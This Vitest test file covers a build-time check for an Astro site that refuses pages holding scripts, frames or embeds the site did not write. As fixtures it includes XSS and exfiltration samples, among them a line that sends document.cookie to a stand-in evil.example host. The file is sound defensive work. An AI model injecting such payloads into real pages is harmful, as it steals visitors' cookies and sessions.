import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  astroIslandScript,
  foreignContent,
  foreignContentMessage,
  inlineFunctionNames,
  inlineFunctionsIn,
  layoutModules,
} from './foreign-content.mjs';
import { refuseForeignContent } from './hosting-headers.mjs';

const loader = 'const t=document.querySelector("template[data-enhancements]");';
const island = '(()=>{customElements.define("astro-island",class extends HTMLElement{})})();';
const own = {
  inlineFunctions: new Set(['holdEarlySubmit']),
  islandScript: island,
  layoutModules: new Set([loader]),
  frameOrigins: new Set(['https://www.openstreetmap.org']),
};

/** A page as the site writes it, with `extra` in its body. */
const page = (extra = '') =>
  `<!DOCTYPE html><html><head><script type="application/ld+json">{"@type":"Organization"}</script><script type="speculationrules">{"prerender":[{"where":{"href_matches":"/*"}}]}</script><script type="module" src="/assets/enhancements.js"></script></head><body>` +
  `<script>(()=>{var e=async t=>{await(await t())()};(self.Astro||(self.Astro={})).afterpaint=e;})();</script><script>${island}</script>` +
  `<astro-island client="afterpaint"></astro-island><script>(function holdEarlySubmit(mailto, options) {\n  document.getElementById(options.formId);\n})({"formId":"enquiry"});</script>` +
  `<iframe src="https://www.openstreetmap.org/export/embed.html?bbox=1" title="Map"></iframe>` +
  `<template data-enhancements><script type="module" src="/assets/modules.js"></script></template><script type="module">${loader}</script>${extra}</body></html>`;

describe('what the site puts in its pages itself', () => {
  it('is known from the calls to inlineScript() in the source', () => {
    expect(
      inlineFunctionNames(
        'return inlineScript(holdEarlySubmit, enquiryMailto, {});\nconst s = inlineScript( checkCategoryFromUrl, "category");',
      ),
    ).toEqual(['holdEarlySubmit', 'checkCategoryFromUrl']);
  });

  it("finds those calls in the site's own source, tests left out", async () => {
    const src = await mkdtemp(join(tmpdir(), 'own-scripts-'));
    try {
      await mkdir(join(src, 'lib'), { recursive: true });
      await writeFile(join(src, 'lib/filter.ts'), 'export const s = inlineScript(checkCategory);');
      await writeFile(join(src, 'lib/filter.test.ts'), 'inlineScript(notShipped);');
      expect([...(await inlineFunctionsIn(src))]).toEqual(['checkCategory']);
    } finally {
      await rm(src, { recursive: true, force: true });
    }
  });

  it("knows Astro's island runtime as the installed Astro ships it", async () => {
    const script = await astroIslandScript();
    expect(script).toMatch(/^\(\(\)=>\{/);
    expect(script).toContain('customElements.define("astro-island"');
  });

  it('takes a layout module script as the one on every page', () => {
    const other = 'alert("only here")';
    expect([
      ...layoutModules([
        page(),
        page(`<script type="module">${other}</script>`),
        page().replace('<html>', '<html lang="en">'),
      ]),
    ]).toEqual([loader]);
  });
});

describe('a page that holds something the site did not put there', () => {
  it('passes when it holds only what the site writes', () => {
    expect(foreignContent(page(), own)).toEqual([]);
  });

  it.each([
    [
      'an injected inline script',
      '<script>alert(document.cookie)</script>',
      /an inline script the site did not write: “alert\(document\.cookie\)”/,
    ],
    [
      'a script dressed as one of the site’s, under another name',
      '<script>(function stealForm() { fetch("//evil.example") })();</script>',
      /an inline script the site did not write: “\(function stealForm\(\)/,
    ],
    [
      'a directive script for a directive no island on the page uses',
      '<script>(()=>{(self.Astro||(self.Astro={})).idle=e;})();</script>',
      /an inline script the site did not write/,
    ],
    [
      'an inline module that is not the layout’s',
      '<script type="module">import "//evil.example/x.js"</script>',
      /an inline module script that is not the layout's/,
    ],
    [
      'a script file from another site',
      '<script src="https://evil.example/embed.js"></script>',
      /a script from another site \(https:\/\/evil\.example\/embed\.js\)/,
    ],
    [
      'a script file from a protocol-relative address',
      '<script src="//evil.example/embed.js"></script>',
      /a script from another site/,
    ],
    [
      'a frame from an origin the configuration does not list',
      '<iframe src="https://www.youtube.com/embed/x"></iframe>',
      /a frame from https:\/\/www\.youtube\.com, which is not among the frame origins astro\.config\.ts allows/,
    ],
    ['an embed', '<embed src="/x.swf">', /an <embed> element, which the site never uses/],
    [
      'speculation rules with more than rules',
      '<script type="speculationrules">{"prerender":[],"tag":"x"}</script>',
      /speculation rules the site does not write/,
    ],
    [
      'a script of another type',
      '<script type="text/vbscript">x</script>',
      /a script of type "text\/vbscript"/,
    ],
    [
      'a script inside a template',
      '<template><script>alert(1)</script></template>',
      /an inline script the site did not write/,
    ],
  ])('refuses %s', (_, extra, expected) => {
    const found = foreignContent(page(extra), own);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatch(expected);
  });

  it('says which page and what it holds, in plain words', () => {
    const message = foreignContentMessage([
      {
        page: '/privacy-policy',
        found: [
          'a frame from https://www.youtube.com, which is not among the frame origins astro.config.ts allows',
        ],
      },
    ]);
    expect(message).toMatch(
      /^A page holds something the site did not put there itself, so the site was not built/,
    );
    expect(message).toContain('  /privacy-policy:\n    - a frame from https://www.youtube.com');
    expect(message).toContain('remove it from the content file that holds it');
  });
});

describe('the build', () => {
  let site;
  beforeAll(async () => {
    site = await mkdtemp(join(tmpdir(), 'foreign-content-'));
    await mkdir(join(site, 'client/privacy-policy'), { recursive: true });
    await writeFile(join(site, 'client/index.html'), page());
    await writeFile(
      join(site, 'client/privacy-policy/index.html'),
      page(
        '<p>Our policy.</p><script>new Image().src="https://evil.example/?"+document.cookie</script>',
      ),
    );
  });
  afterAll(() => rm(site, { recursive: true, force: true }));

  it('stops before the policy is written, naming the page', async () => {
    const { layoutModules: _, ...known } = own;
    await expect(refuseForeignContent(join(site, 'client'), known)).rejects.toThrow(
      /\/privacy-policy:\n {4}- an inline script the site did not write: “new Image\(\)\.src=/,
    );
    await writeFile(join(site, 'client/privacy-policy/index.html'), page('<p>Our policy.</p>'));
    await expect(refuseForeignContent(join(site, 'client'), known)).resolves.toBeUndefined();
  });
});
